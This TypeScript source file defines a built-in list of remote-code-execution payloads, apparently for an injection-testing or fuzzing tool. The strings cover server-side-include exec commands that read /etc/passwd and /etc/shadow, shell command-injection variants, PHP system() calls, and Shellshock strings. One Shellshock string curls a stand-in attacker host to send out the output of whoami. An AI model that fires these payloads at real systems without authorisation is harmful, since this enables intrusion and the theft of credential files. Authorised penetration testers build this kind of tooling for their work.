/**
 * Built-in RCE payloads, used when no payload file or literal is given
 * and there is no `payloads.txt` in the working directory.
 *
 * Payloads are opaque to the engine; they are handed to the substitution
 * tool as-is.
 */

/** Payload file picked up from the working directory when present */
export const DEFAULT_PAYLOAD_FILE = "payloads.txt";

export const DEFAULT_PAYLOADS: readonly string[] = [
  '<!--#exec%20cmd="/bin/cat%20/etc/passwd"-->',
  '<!--#exec%20cmd="/bin/cat%20/etc/shadow"-->',
  '<!--#exec%20cmd="/usr/bin/id;-->',
  "/index.html|id|",
  ";id;",
  ";netstat -a;",
  ";system('cat%20/etc/passwd')",
  "|id",
  "|/usr/bin/id",
  "\\n/bin/ls -al\\n",
  "\\n/usr/bin/id\\n",
  "`id`",
  "`/usr/bin/id`",
  "a);id",
  "a;/usr/bin/id",
  ";system('id')",
  "%0Acat%20/etc/passwd",
  "%0A/usr/bin/id",
  "& ping -i 30 127.0.0.1 &",
  "`ping 127.0.0.1`",
  '() { :;}; /bin/bash -c "curl http://attacker.example/shellshock.txt?user=\\`whoami\\`"',
  '() { :;}; /bin/bash -c "sleep 1 && echo vulnerable 1"',
  "cat /etc/hosts",
  "$(`cat /etc/passwd`)",
  '<?php system("cat /etc/passwd");?>',
];
